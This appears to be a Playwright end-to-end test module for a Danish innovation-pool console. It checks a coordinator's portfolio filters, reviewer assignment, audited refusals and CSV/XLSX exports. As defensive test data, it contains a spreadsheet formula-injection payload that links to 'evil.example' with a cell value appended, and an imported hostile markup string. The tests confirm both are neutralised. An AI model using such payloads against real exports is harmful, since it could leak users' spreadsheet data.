"""The coordinator's portfolio in Chromium against one `ideaflow web` process for the whole module.

The database is seeded through the service layer; the coordinator of one pool signs in once through
the mailed link and keeps her browser context. What would fail without the feature: another pool's
idea in her list or her export, a filter that is not kept in the URL or cannot be used by keyboard,
counts that follow the stage filter, a selection that does not reach the reviewer (or a refusal that
is not shown by its idea, or not audited), an export without its Danish headings or with a cell a
spreadsheet would run as a formula, hostile text run as markup, and any axe-core violation at 1280 or
320 px in Danish or English.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook
from playwright.sync_api import expect

from states.criteria import TAARNBY_CRITERIA
from states.vocabulary import Decision, Role

from consoleweb import running_console, signed_in_people
from signinweb import HOSTILE
from webtest import assert_no_axe_violations, assert_reflows

pytestmark = pytest.mark.slow

POOL, OTHER_POOL = "Tårnby innovationspulje", "Roskilde puljen"
KARIN, BENT, OLE = "karin@taarnby.dk", "bent@taarnby.dk", "ole@roskilde.dk"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Klik her")'
SUBMITTED = ["Skolemad i Tårnby", "Fælles sagsbehandling", FORMULA, HOSTILE]


def _seed(app) -> dict[str, int]:
    services = app.services
    now = datetime.now(UTC)
    services.create_pool(POOL, 2_000_000, 2026, now)
    services.create_pool(OTHER_POOL, 1_000_000, 2026, now)
    for email, name, pool, role in ((KARIN, "Karin Koordinator", POOL, Role.COORDINATOR),
                                    (BENT, "Bent Bedømmer", POOL, Role.REVIEWER),
                                    (OLE, "Ole Roskilde", OTHER_POOL, Role.REVIEWER)):
        services.add_person(email, name, Role.PROPOSER, now)
        services.grant_role(email, role, now, pool=pool)

    def submit(title: str, pool: str = POOL, **more) -> int:
        return services.submit(title=title, description=f"Om {title}", proposer="borger@example.dk", pool=pool,
                               now=now, requested_dkk=250_000, **more)

    ideas = {title: submit(title) for title in SUBMITTED}
    ideas["Droner"] = submit("Droner", departments=("Teknik og Miljø",))
    services.decide(ideas["Droner"], Decision.KILL, KARIN, now, reason="Ligger uden for puljen")
    ideas["Roskildes idé"] = submit("Roskildes idé", pool=OTHER_POOL)
    return ideas


@pytest.fixture(scope="module")
def console(tmp_path_factory):
    with running_console(tmp_path_factory.mktemp("portfolio"), _seed) as console:
        yield console


@pytest.fixture(scope="module")
def signed_in(chromium, console):
    yield from signed_in_people(chromium, console)


@pytest.fixture(scope="module")
def karin(chromium, signed_in):
    """Karin's page, signed in once for the module (a dialog hostile text opened fails `signed_in`)."""
    with chromium.in_use():
        return signed_in(KARIN)



def _titles(page) -> list[str]:
    return page.locator("tbody tr td:nth-child(2) a").all_inner_texts()


def _count(page, stage: str) -> str:
    return page.locator(".stage-count-list li", has_text=stage).inner_text()


def test_filter_by_keyboard_with_counts_per_stage(browser, karin, console):
    page = karin
    page.goto(console.server.url + "home")
    page.get_by_role("navigation").get_by_role("link", name="Portefølje").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Portefølje")
    assert sorted(_titles(page)) == sorted([*SUBMITTED, "Droner"])  # not the other pool's idea
    assert _count(page, "Alle faser") == "Alle faser (5)"
    assert _count(page, "Indsendt") == "Indsendt (4)" and _count(page, "Afvist") == "Afvist (1)"
    expect(page.get_by_role("link", name=HOSTILE)).to_have_count(1)  # shown as text, not run
    assert page.locator("main img").count() == 0

    # Keyboard only: type a search and press Enter; then a stage chosen with the arrow keys.
    page.get_by_label("Søg i titel og beskrivelse").focus()
    page.keyboard.type("sagsbehandling")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/portfolio\?text=sagsbehandling$"))
    assert _titles(page) == ["Fælles sagsbehandling"]
    page.get_by_label("Søg i titel og beskrivelse").focus()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.press("Tab")  # to the pool
    page.keyboard.press("Tab")  # to the stage
    page.keyboard.press("ArrowDown")  # from "all stages" to the first stage
    expect(page.get_by_label("Fase", exact=True)).to_have_value("submitted")
    page.get_by_role("button", name="Vis idéer").focus()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/portfolio\?stage=submitted$"))
    assert sorted(_titles(page)) == sorted(SUBMITTED)
    # The counts are those of the filter without its stage: every stage still shows what it holds.
    assert _count(page, "Afvist") == "Afvist (1)" and _count(page, "Alle faser") == "Alle faser (5)"
    expect(page.locator(".stage-count-list a[aria-current]")).to_have_text("Indsendt (4)")
    page.goto(console.server.url + "portfolio?department=Teknik+og+Milj%C3%B8")
    assert _titles(page) == ["Droner"]
    assert_no_axe_violations(page)
    # "²" passes str.isdigit but not int: a pool, reviewer or page of it is no filter; as text it finds nothing.
    assert page.goto(console.server.url + "portfolio?pool=%C2%B2&reviewer=%C2%B2&page=%C2%B2").status == 200
    assert sorted(_titles(page)) == sorted([*SUBMITTED, "Droner"])
    assert page.goto(console.server.url + "portfolio?text=%C2%B2").status == 200 and _titles(page) == []


def test_select_two_ideas_and_ask_a_reviewer_with_refusals_shown_by_idea(browser, karin, console):
    page, ideas = karin, console.ids
    page.goto(console.server.url + "portfolio?sort=title")
    # Nothing selected, no reviewer: the form comes back with a summary linking to both.
    with page.expect_response(lambda r: r.request.method == "POST") as response:
        page.get_by_role("button", name="Bed om en bedømmelse").click()
    assert response.value.status == 422
    summary = page.locator(".error-summary")
    expect(summary.get_by_role("link", name="Vælg mindst én idé.")).to_have_attribute("href", "#select-ideas")
    expect(summary.get_by_role("link", name="Vælg en bedømmer.")).to_have_attribute("href", "#reviewer")
    assert_no_axe_violations(page)

    page.get_by_label("Vælg Skolemad i Tårnby").press("Space")
    page.get_by_label(f"Vælg {HOSTILE}").check()
    page.get_by_label("Vælg Droner").check()  # rejected: no gate is open, so it is refused
    # A crafted form: another pool's idea in place of one of hers is refused and audited.
    page.get_by_label("Vælg Fælles sagsbehandling").check()
    page.get_by_label("Vælg Fælles sagsbehandling").evaluate(f"box => box.value = '{ideas['Roskildes idé']}'")
    page.get_by_label("Bedømmer, der skal spørges").select_option(BENT)
    # Naming one narrows "every reviewer of the pool" to those named: the field says so before it is done.
    expect(page.get_by_label("Bedømmer, der skal spørges")).to_have_accessible_description(re.compile(
        "^Så længe ingen bedømmer er valgt ved navn til en idé, bliver alle puljens bedømmere bedt om at bedømme "
        "den. Vælger du én her, bliver kun de valgte bedt om det."))  # (then the error left from the try before)
    page.get_by_role("button", name="Bed om en bedømmelse").click()

    alert = page.get_by_role("alert")
    expect(alert.get_by_role("heading")).to_have_text("Ikke alle idéer kunne sendes til bedømmelse")
    outcomes = dict(line.split(": ", 1) for line in alert.locator("li").all_inner_texts())
    assert outcomes["Skolemad i Tårnby"] == "spurgt" and outcomes[HOSTILE] == "spurgt"
    assert outcomes["Droner"].startswith("ikke sendt – ")
    crafted = outcomes[f"Idé {ideas['Roskildes idé']}"]  # its title is not hers to see
    assert crafted.startswith("ikke sendt – ") and "Roskilde puljen" in crafted
    for title in ("Skolemad i Tårnby", HOSTILE):
        assert console.show(ideas[title])["reviewers_asked"] == [BENT]
    assert console.show(ideas["Roskildes idé"])["reviewers_asked"] == []
    assert ("assign", ideas["Roskildes idé"]) in console.refusals(KARIN)
    row = page.locator("tbody tr", has=page.get_by_role("link", name="Skolemad i Tårnby"))
    expect(row).to_contain_text("0 af 1 har svaret")
    assert_no_axe_violations(page)


def test_export_csv_and_xlsx_with_danish_headings_and_no_formulas(browser, karin, console):
    page, ideas = karin, console.ids
    page.goto(console.server.url + "portfolio?stage=submitted")
    with page.expect_download() as download:  # nothing selected: every idea of the filter
        page.get_by_role("button", name="Eksportér som CSV").click()
    assert re.fullmatch(r"portefoelje-\d{4}-\d\d-\d\d\.csv", download.value.suggested_filename)
    raw = Path(download.value.path()).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads æ, ø, å
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:6] == ["Idé nr.", "Titel", "Pulje", "Fase", "Åben beslutning", "Frist"]
    by_id = {int(row[0]): row for row in rows[1:]}
    assert set(by_id) == {ideas[t] for t in SUBMITTED}
    assert by_id[ideas[FORMULA]][1] == "'" + FORMULA and by_id[ideas[HOSTILE]][1] == HOSTILE
    assert by_id[ideas["Skolemad i Tårnby"]][2:4] == [POOL, "Indsendt"]
    assert by_id[ideas["Skolemad i Tårnby"]][7] == "250000"

    page.get_by_label(f"Vælg {FORMULA}").check()
    page.get_by_label("Vælg Skolemad i Tårnby").check()
    with page.expect_download() as download:
        page.get_by_role("button", name="Eksportér som Excel (XLSX)").click()
    assert download.value.suggested_filename.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(Path(download.value.path()).read_bytes())).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells[0][:3] == ["Idé nr.", "Titel", "Pulje"]
    assert sorted(row[1] for row in cells[1:]) == sorted(["'" + FORMULA, "Skolemad i Tårnby"])
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert {row[7] for row in cells[1:]} == {250_000}  # amounts stay numbers


def test_an_idea_opened_from_the_list_leads_to_the_previous_and_next_in_it(browser, karin, console):
    """The idea page (another module's) shows the list's way back, previous and next, and they carry the list on."""
    page = karin
    page.goto(console.server.url + "portfolio?sort=title")
    page.get_by_role("link", name="Fælles sagsbehandling").click()
    remembered = urlencode({"from": urlencode({"sort": "title", "at": "Fælles sagsbehandling"})})  # and its place
    expect(page).to_have_url(re.compile(rf"/ideas/{console.ids['Fælles sagsbehandling']}\?{re.escape(remembered)}$"))
    around = page.get_by_role("navigation", name="Idéer på din liste")
    expect(around.get_by_role("link", name="Forrige idé: Droner")).to_be_visible()
    around.get_by_role("link", name="Næste idé: Skolemad i Tårnby").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Skolemad i Tårnby")
    around = page.get_by_role("navigation", name="Idéer på din liste")
    around.get_by_role("link", name="Tilbage til porteføljen").click()
    expect(page).to_have_url(re.compile(r"/portfolio\?sort=title$"))


NEIGHBOURS = ["Nabo A", "Nabo B", "Nabo C"]


def _seed_neighbours(app) -> dict[str, int]:
    """One pool, an idea and three neighbours at screening, reviewed, deadlines a minute apart in this order."""
    services, now = app.services, datetime.now(UTC)
    services.create_pool(POOL, 2_000_000, 2026, now)
    for email, name, role in ((KARIN, "Karin Koordinator", Role.COORDINATOR), (BENT, "Bent Bedømmer", Role.REVIEWER)):
        services.add_person(email, name, Role.PROPOSER, now)
        services.grant_role(email, role, now, pool=POOL)
    ideas = {}
    for n, title in enumerate(["Skolemad i Tårnby", *NEIGHBOURS]):
        submitted = now - timedelta(minutes=10 - n)
        ideas[title] = services.submit(title=title, description=f"Om {title}", proposer="borger@example.dk",
                                       pool=POOL, now=submitted, requested_dkk=250_000)
        services.review(ideas[title], BENT, {c.name: 4 for c in TAARNBY_CRITERIA}, submitted)
    return ideas


@pytest.fixture
def walking(chromium, tmp_path):
    """A console of its own (its decisions would change the other tests' lists), Karin signed in when asked."""
    with running_console(tmp_path, _seed_neighbours) as console:
        yield from signed_in_people(chromium, console)


def test_previous_and_next_stay_where_the_idea_was_in_the_list_after_a_decision(browser, walking):
    """A decision moves the idea's deadline and takes it out of the stage's list: its page, reloaded after the
    decision, still leads to the ideas it stood between, and the walk goes on in the list as it is now."""
    page, console = walking(KARIN), walking.console
    page.goto(console.server.url + "portfolio?stage=submitted")
    assert _titles(page) == ["Skolemad i Tårnby", *NEIGHBOURS]
    page.get_by_role("link", name="Nabo B").click()
    around = page.get_by_role("navigation", name="Idéer på din liste").get_by_role("link")
    expect(around).to_have_text(["Tilbage til porteføljen", "Forrige idé: Nabo A", "Næste idé: Nabo C"])

    page.locator("form[action$='/decide']").get_by_label("Godkend").check()
    page.get_by_role("button", name="Registrér afgørelsen").click()
    expect(page.get_by_role("status")).to_contain_text("Godkendelsen er registreret")
    expect(page).to_have_url(re.compile(rf"/ideas/{console.ids['Nabo B']}\?status=decision_go&from=stage%3Dsubmitted"))
    expect(around).to_have_text(["Tilbage til porteføljen", "Forrige idé: Nabo A", "Næste idé: Nabo C"])

    page.get_by_role("link", name="Næste idé: Nabo C").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Nabo C")
    expect(around).to_have_text(["Tilbage til porteføljen", "Forrige idé: Nabo A"])  # Nabo B has left the list
    page.locator("form[action$='/decide']").get_by_label("Afvis").check()
    page.get_by_label("Begrundelse").fill("Ligger uden for puljen")
    page.get_by_role("button", name="Registrér afgørelsen").click()
    expect(page.get_by_role("status")).to_contain_text("Idéen er afvist")
    expect(around).to_have_text(["Tilbage til porteføljen", "Forrige idé: Nabo A"])
    page.get_by_role("link", name="Forrige idé: Nabo A").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Nabo A")
    expect(around).to_have_text(["Tilbage til porteføljen", "Forrige idé: Skolemad i Tårnby"])
    around.get_by_text("Tilbage til porteføljen").click()
    assert _titles(page) == ["Skolemad i Tårnby", "Nabo A"]


@pytest.mark.parametrize("lang", ["da", "en"])
def test_the_portfolio_passes_axe_at_1280_and_320(browser, karin, console, lang):
    """Danish and English (Karin's choice, switched in the header), wide and narrow, a list and an empty one
    (the error summary and the outcomes of asking a reviewer are checked where they appear)."""
    page, url = karin, console.server.url
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(url + "portfolio")
    if page.locator("html").get_attribute("lang") != lang:
        page.locator(f"header button[lang='{lang}']").click()
    for path in ("portfolio?stage=submitted&sort=-requested", "portfolio?overdue=1&text=" + "x" * 60):
        for width in (1280, 320):
            page.set_viewport_size({"width": width, "height": 800})
            page.goto(url + path)
            expect(page.locator("html")).to_have_attribute("lang", lang)
            assert_no_axe_violations(page)
            assert_reflows(page, width)
    page.set_viewport_size({"width": 1280, "height": 800})
